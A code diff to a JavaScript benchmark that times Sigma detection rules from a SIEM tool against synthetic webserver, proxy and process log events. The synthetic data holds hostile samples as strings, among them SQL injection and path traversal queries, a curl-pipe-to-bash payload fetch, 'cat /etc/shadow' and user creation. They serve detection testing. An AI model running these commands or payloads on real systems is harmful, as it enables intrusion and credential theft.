@@ -15,11 +15,14 @@ import { figure, measure, median } from './lib.mjs';
 const root = new URL('..', import.meta.url).pathname;
 const shared = process.env.RAMPART_SHARED_DATA ?? join(root, '..', 'shared', 'data');
 const { loadSigmaRules, compileDetector } = await import(join(root, 'packages/siem/dist/sigma/index.js'));
-const { hunt } = await import(join(root, 'packages/siem/dist/hunt-offline/index.js'));
 const BENCH = 'siem-sigma';
-const FOLDERS = ['rules', 'rules-emerging-threats', 'rules-threat-hunting', 'rules-placeholder', 'rules-compliance'].map((f) =>
-  join(shared, 'sigma', f),
-);
+const FOLDERS = [
+  'rules',
+  'rules-emerging-threats',
+  'rules-threat-hunting',
+  'rules-placeholder',
+  'rules-compliance',
+].map((f) => join(shared, 'sigma', f));
 
 // --- rules: linux, webserver, proxy, cloud, kubernetes ---
 const all = loadSigmaRules(FOLDERS, { pipeline: 'ecs' });
@@ -62,14 +65,39 @@ for (const f of readdirSync(k8sDir)) {
     if (l.trim() !== '') add(JSON.parse(l), { product: 'kubernetes', service: 'audit' });
   }
 }
-const paths = ['/index.html', '/api/v1/users', '/static/app.js', '/login', '/wp-login.php', '/cgi-bin/test.cgi', '/admin'];
-const queries = ['', 'id=1', 'q=shoes&page=2', "id=1' OR '1'='1", 'file=../../../../etc/passwd', 'cmd=whoami', 'x=<script>'];
-const agents = ['Mozilla/5.0 (X11; Linux x86_64)', 'curl/8.4.0', 'python-requests/2.31', 'sqlmap/1.7', 'Go-http-client/1.1'];
+const paths = [
+  '/index.html',
+  '/api/v1/users',
+  '/static/app.js',
+  '/login',
+  '/wp-login.php',
+  '/cgi-bin/test.cgi',
+  '/admin',
+];
+const queries = [
+  '',
+  'id=1',
+  'q=shoes&page=2',
+  "id=1' OR '1'='1",
+  'file=../../../../etc/passwd',
+  'cmd=whoami',
+  'x=<script>',
+];
+const agents = [
+  'Mozilla/5.0 (X11; Linux x86_64)',
+  'curl/8.4.0',
+  'python-requests/2.31',
+  'sqlmap/1.7',
+  'Go-http-client/1.1',
+];
 for (let i = 0; i < 3000; i++) {
   add(
     {
       '@timestamp': new Date(1_795_400_000_000 + i * 1000).toISOString(),
-      http: { request: { method: pick(['GET', 'GET', 'POST', 'PUT']), referrer: '-' }, response: { status_code: pick([200, 404, 500]) } },
+      http: {
+        request: { method: pick(['GET', 'GET', 'POST', 'PUT']), referrer: '-' },
+        response: { status_code: pick([200, 404, 500]) },
+      },
       url: { path: pick(paths), query: pick(queries) },
       source: { ip: `10.0.${i % 256}.${(i * 7) % 256}` },
       user_agent: { original: pick(agents) },
@@ -77,12 +105,23 @@ for (let i = 0; i < 3000; i++) {
     { category: 'webserver' },
   );
 }
-const hosts = ['example.com', 'api.github.com', 'pastebin.com', 'updates.vendor.net', 'ngrok-free.app', 'cdn.jsdelivr.net'];
+const hosts = [
+  'example.com',
+  'api.github.com',
+  'pastebin.com',
+  'updates.vendor.net',
+  'ngrok-free.app',
+  'cdn.jsdelivr.net',
+];
 for (let i = 0; i < 2000; i++) {
   const host = pick(hosts);
   add(
     {
-      url: { original: `https://${host}${pick(paths)}`, domain: host, extension: pick(['html', 'js', 'exe', 'ps1', 'php']) },
+      url: {
+        original: `https://${host}${pick(paths)}`,
+        domain: host,
+        extension: pick(['html', 'js', 'exe', 'ps1', 'php']),
+      },
       http: { request: { method: pick(['GET', 'POST', 'CONNECT']) }, response: { status_code: pick([200, 403]) } },
       user_agent: { original: pick(agents) },
       destination: { domain: host },
@@ -90,8 +129,22 @@ for (let i = 0; i < 2000; i++) {
     { category: 'proxy' },
   );
 }
-const images = ['/usr/bin/bash', '/usr/bin/curl', '/usr/bin/python3', '/usr/bin/base64', '/usr/bin/ls', '/usr/sbin/useradd'];
-const cmds = ['ls -la', 'curl -s http://x/payload.sh | bash', 'base64 -d /tmp/x', 'useradd -m eve', 'cat /etc/shadow', 'id'];
+const images = [
+  '/usr/bin/bash',
+  '/usr/bin/curl',
+  '/usr/bin/python3',
+  '/usr/bin/base64',
+  '/usr/bin/ls',
+  '/usr/sbin/useradd',
+];
+const cmds = [
+  'ls -la',
+  'curl -s http://x/payload.sh | bash',
+  'base64 -d /tmp/x',
+  'useradd -m eve',
+  'cat /etc/shadow',
+  'id',
+];
 for (let i = 0; i < 3000; i++) {
   add(
     {
@@ -107,6 +160,28 @@ for (let i = 0; i < 3000; i++) {
   );
 }
 process.stderr.write(`${lines.length} events\n`);
+if (process.env.BENCH_DEBUG === 'sources') {
+  const groups = new Map();
+  for (let i = 0; i < lines.length; i++) {
+    const k = JSON.stringify(sources[i]);
+    if (!groups.has(k)) groups.set(k, []);
+    groups.get(k).push(i);
+  }
+  for (const [k, idx] of groups) {
+    const evs = idx.map((i) => JSON.parse(lines[i]));
+    const ls = sources[idx[0]];
+    for (const e of evs) detector.match(e, ls);
+    const t = performance.now();
+    for (let r = 0; r < 5; r++) for (const e of evs) detector.match(e, ls);
+    const t2 = performance.now();
+    for (let r = 0; r < 5; r++) for (const i of idx) JSON.parse(lines[i]);
+    const t3 = performance.now();
+    process.stderr.write(
+      `${k}: match ${((t2 - t) * 1000) / (5 * evs.length)} us/event, parse ${((t3 - t2) * 1000) / (5 * evs.length)} us/event\n`,
+    );
+  }
+  process.exit(0);
+}
 if (process.env.BENCH_DEBUG === 'attempts') {
   const { compileRule } = await import(join(root, 'packages/siem/dist/sigma/compile-rule.js'));
   const tried = new Map();
@@ -129,7 +204,8 @@ if (process.env.BENCH_DEBUG === 'attempts') {
 if (process.env.BENCH_DEBUG === '1') {
   const per = new Map();
   for (let i = 0; i < lines.length; i++) {
-    for (const m of detector.match(JSON.parse(lines[i]), sources[i])) per.set(m.rule.file, (per.get(m.rule.file) ?? 0) + 1);
+    for (const m of detector.match(JSON.parse(lines[i]), sources[i]))
+      per.set(m.rule.file, (per.get(m.rule.file) ?? 0) + 1);
   }
   process.stderr.write(`${JSON.stringify([...per].sort((a, b) => b[1] - a[1]).slice(0, 15), null, 1)}\n`);
   process.stderr.write(`${JSON.stringify(detector.stats())}\n`);
@@ -196,18 +272,21 @@ const parsed = regressionLines.map((l) => JSON.parse(l));
 const loopRates = [];
 for (let round = 0; round < 3; round++) {
   const t = performance.now();
-  let n = 0;
-  for (let r = 0; r < REPEAT; r++) for (const e of parsed) n += allDetector.match(e).length;
+  for (let r = 0; r < REPEAT; r++) for (const e of parsed) allDetector.match(e);
   loopRates.push(events / ((performance.now() - t) / 1000));
 }
 figure(BENCH, 'rules_load_ms.all_sigmahq', loadMs, 'ms');
 figure(BENCH, 'events_per_s.hunt_match_loop_all_rules', median(loopRates), 'events/s');
-const cli = join(root, 'packages/cli/dist/main.js');
+const cli = join(root, 'packages/cli/bin/rampart.js');
 const walls = [];
 for (let round = 0; round < 3; round++) {
-  const r = await measure(process.execPath, [cli, 'hunt', '--sigma', ...FOLDERS, '--input', input, '-f', 'json', '-o', '/dev/null', '-q'], {
-    keepStdout: false,
-  });
+  const r = await measure(
+    process.execPath,
+    [cli, 'hunt', '--sigma', ...FOLDERS, '--input', input, '-f', 'json', '-o', '/dev/null', '-q'],
+    {
+      keepStdout: false,
+    },
+  );
   if (r.code !== 0) {
     process.stderr.write(`rampart hunt failed (${r.code}): ${r.stderr}\n`);
     break;
@@ -218,4 +297,3 @@ if (walls.length > 0) {
   figure(BENCH, 'events_per_s.rampart_hunt_cli_all_rules', events / (median(walls) / 1000), 'events/s');
   figure(BENCH, 'wall_ms.rampart_hunt_cli_all_rules', median(walls), 'ms');
 }
-void hunt;
